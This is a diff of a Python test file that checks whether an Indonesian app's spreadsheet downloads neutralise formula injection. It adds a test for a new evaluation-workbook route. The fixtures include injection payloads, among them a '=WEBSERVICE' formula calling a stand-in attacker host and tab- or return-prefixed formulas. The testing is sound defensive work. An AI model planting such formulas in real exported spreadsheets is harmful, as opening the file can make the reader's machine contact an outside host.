@@ -38,7 +38,7 @@ JAHAT_WILAYAH = {
     "33.04": "\t=1+1",
     "33.05": "\r=1+1",
 }
-JAHAT_JENIS = {"nama": "=WEBSERVICE(\"http://jahat.example\")", "satuan": "@lembar"}
+JAHAT_JENIS = {"nama": '=WEBSERVICE("http://jahat.example")', "satuan": "@lembar"}
 ANGKA = re.compile(r"^-?\d+(,\d+)?$")  # a number in the Indonesian CSV (negative allowed)
 
 
@@ -153,6 +153,14 @@ def test_meeting_pack_workbook_neutralises_every_formula(app) -> None:
     _semua_ada(teks, [isi, pj, *(v for k, v in JAHAT_WILAYAH.items() if k != "33")])
 
 
+def test_evaluation_workbook_neutralises_every_formula(app) -> None:
+    """/unduh/evaluasi.xlsx, fetched as a reader would: the kab/kota names in every sheet."""
+    r = app.server.test_client().get("/unduh/evaluasi.xlsx")
+    assert r.status_code == 200, r.get_data(as_text=True)[:200]
+    teks = _periksa_xlsx(r.data)
+    _semua_ada(teks, [v for k, v in JAHAT_WILAYAH.items() if len(k) == 5])
+
+
 def test_no_other_download_route_exists_unchecked(app) -> None:
     """Every route that hands out a spreadsheet is covered above; a new one must be added.
 
@@ -168,6 +176,7 @@ def test_no_other_download_route_exists_unchecked(app) -> None:
         "/input/templat/<jenis>.<format_>",
         "/unduh/paket-rapat.zip",
         "/unduh/laporan/<kode>.<bentuk>",
+        "/unduh/evaluasi.<bentuk>",
     }, bentuk
     unduhan = {k for k in app.callback_map if "unduh" in k}
     assert unduhan == {"stok-unduhan-excel.data", "stok-unduhan-csv.data"}, unduhan
